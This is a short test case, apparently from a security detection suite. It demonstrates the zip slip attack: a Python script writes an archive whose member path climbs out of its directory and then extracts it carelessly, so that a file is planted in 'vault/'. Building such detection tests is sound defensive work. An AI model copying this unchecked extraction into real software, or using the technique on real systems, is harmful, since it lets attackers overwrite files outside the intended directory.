# technique: extracts an archive whose member climbs out of its directory
# source: zip slip, 2018; CVE-2007-4559 (python tarfile)
# success: vault/planted was made
# control: permissive
# needs: python3
# event: FileCreate
python3 - <<'END'
import zipfile
with zipfile.ZipFile('evil.zip', 'w') as archive:
    archive.writestr('../vault/planted', 'x')
# As careless programs extract.
with zipfile.ZipFile('evil.zip') as archive:
    for name in archive.namelist():
        with open('public/' + name, 'wb') as file:
            file.write(archive.read(name))
END
